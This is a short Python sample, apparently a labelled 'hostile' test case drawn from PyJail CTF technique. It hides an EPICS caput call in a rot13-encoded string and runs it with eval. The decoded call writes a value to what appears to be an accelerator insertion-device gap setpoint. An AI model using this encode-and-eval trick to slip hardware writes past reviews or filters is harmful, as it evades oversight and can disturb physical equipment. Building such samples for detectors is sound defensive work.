# source: PyJail write-ups, rot13 payload passed to eval (ctftime.org)
# kind: hostile
# writes: yes
# channels: SR:ID04:GAP:SP
# reads: no
import codecs

quote = "__vzcbeg__('rcvpf').pnchg('FE:VQ04:TNC:FC', 12.5)"
print(quote)
value = eval(codecs.decode(quote, "rot_13"))
print("score", value)
